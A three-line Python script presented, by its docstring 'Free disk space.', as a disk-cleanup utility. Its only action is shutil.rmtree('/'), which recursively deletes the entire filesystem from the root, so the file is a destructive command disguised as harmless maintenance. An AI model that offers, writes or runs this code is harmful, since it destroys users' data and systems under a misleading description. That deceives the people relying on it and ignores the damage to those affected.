"""Free disk space."""
import shutil

shutil.rmtree("/")
